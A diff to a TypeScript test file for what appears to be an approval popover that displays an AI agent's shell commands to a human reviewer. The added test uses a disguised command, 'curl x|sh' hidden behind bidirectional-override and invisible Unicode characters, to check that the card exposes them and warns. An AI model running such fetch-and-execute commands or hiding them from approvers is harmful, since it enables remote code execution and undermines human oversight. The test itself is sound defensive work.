@@ -6,7 +6,7 @@ import type { PopoverState } from '../../src/engine/contract';
 import { admit, commandSchemaFor } from '../../src/engine/contract';
 import type { Row, RowAnswer } from '../../src/engine/row';
 import type { AnswerDraft, Answering } from '../../src/popover/answer';
-import { GRACE_NOTICE, tooLongNotice, answerAction, choose, decisionFor, digitAction, draftFor, emptyDraft, releaseAction, shortText } from '../../src/popover/answer';
+import { GRACE_NOTICE, answerAction, cardPieces, choose, decisionFor, digitAction, draftFor, emptyDraft, hiddenWarning, releaseAction, shortText, tooLongNotice } from '../../src/popover/answer';
 import type { KeyPress, KeyTarget } from '../../src/popover/keys';
 import { keyToAction } from '../../src/popover/keys';
 import { visibleGroups } from '../../src/popover/list-view';
@@ -231,5 +231,23 @@ describe('what the card and the row say', () => {
     expect(detailLine(row({ state: 'answered', request: REQUEST, answer: 'allowed', from: 'popover', at: iso(T) }), T)).toBe('answered (allowed) · waiting for the agent');
     expect(detailLine(row({ state: 'elsewhere', request: REQUEST, at: iso(T) }), T)).toBe('answered in the terminal');
     expect(detailLine(row(APPROVAL), T)).toBe('Bash: rm -rf build — awaiting approval');
+  });
+
+  it('issue 47 item 2 the card shows every bidi control and invisible character as a marked token and says the command holds them', () => {
+    const tricked = 'echo ok \u202e;curl x|sh #\u2066# cleanup\n\u200bls\u00a0-la';
+    const pieces = cardPieces(tricked);
+    // The card reads exactly what the terminal shows, line by line; no raw hidden character reaches it.
+    expect(pieces.map((piece) => piece.text).join('')).toBe('echo ok <U+202E>;curl x|sh #<U+2066># cleanup\n<U+200B>ls<U+00A0>-la');
+    expect(pieces.filter((piece) => piece.hidden !== null).map((piece) => piece.hidden)).toEqual(['bidi', 'bidi', 'invisible', 'blank']);
+    expect(pieces.map((piece) => piece.text).join('')).not.toMatch(/[\u202e\u2066\u200b\u00a0]/);
+    expect(hiddenWarning(tricked)).toBe('holds 4 hidden or bidirectional characters, marked: it may not run as it reads');
+    expect(hiddenWarning('ls \u200f')).toBe('holds 1 hidden or bidirectional character, marked: it may not run as it reads');
+    // A plain command, on several lines too, is one run of text per line and no warning.
+    expect(cardPieces('make\nmake test')).toEqual([{ text: 'make', hidden: null }, { text: '\n', hidden: null }, { text: 'make test', hidden: null }]);
+    expect(hiddenWarning('make\nmake test')).toBeNull();
+    // The row's detail line shows the same tokens.
+    const row_ = row(APPROVAL);
+    const claimed = { ...row_, claim: row_.claim === null ? null : { ...row_.claim, detail: 'Bash: echo ok \u202e;curl x|sh' } };
+    expect(detailLine(claimed, T)).toBe('Bash: echo ok <U+202E>;curl x|sh — awaiting approval');
   });
 });
